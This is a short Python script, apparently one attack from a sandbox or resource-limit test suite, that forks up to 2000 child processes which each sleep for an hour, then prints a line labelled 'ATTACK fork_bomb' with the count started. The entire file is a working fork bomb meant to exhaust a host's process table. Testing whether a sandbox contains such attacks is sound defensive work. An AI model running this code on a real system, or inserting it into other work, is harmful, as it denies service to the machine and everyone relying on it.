# Start as many processes as the machine allows, each sleeping (they would outlive the host).
import os
import time

_started = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        _started += 1
    except OSError:
        break
print(f"ATTACK fork_bomb: started {_started} processes")
